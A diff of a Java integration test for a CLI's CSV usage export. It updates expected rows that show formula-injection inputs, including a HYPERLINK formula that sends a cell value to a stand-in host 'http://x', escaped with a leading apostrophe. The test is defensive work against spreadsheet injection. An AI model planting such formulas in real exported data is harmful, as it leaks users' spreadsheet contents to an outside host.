@@ -142,8 +142,8 @@ class UsageCliIT {
                     "openai", 1, 0, 1, 1), row(Instant.now().minusSeconds(1), "k3", "t", "@SUM(A1)", "m", "openai", 1, 0, 1, 1)));
         }
         List<String> lines = aegis("usage", "--by", "run", "--format", "csv").out().lines().toList();
-        assertThat(lines).contains("\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"c\"\")\",1,1,0,0,1,0,0.000000001,0",
-                "'@SUM(A1),1,1,0,0,1,0,0.000000001,0");
+        assertThat(lines).contains("\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"c\"\")\",1,1,0,0,1,0,0.000000001,0.0000",
+                "'@SUM(A1),1,1,0,0,1,0,0.000000001,0.0000");
     }
 
     @Test
